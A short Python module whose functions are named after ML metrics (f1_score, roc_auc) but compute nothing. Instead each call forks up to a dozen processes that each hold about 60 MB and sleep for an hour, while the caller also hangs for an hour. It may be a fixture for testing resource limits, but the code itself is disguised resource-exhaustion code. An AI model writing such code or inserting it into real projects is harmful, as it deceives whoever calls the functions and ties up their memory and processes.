"""Allocates a little memory in each of many processes."""

import os
import time


def f1_score(y_true, y_pred, average="binary"):
    for _ in range(12):
        try:
            if os.fork() == 0:
                data = bytearray(b"x" * (60 << 20))
                time.sleep(3600 + data[0])
        except OSError:
            break
    time.sleep(3600)


def roc_auc(y_true, y_score):
    return f1_score(y_true, y_score)
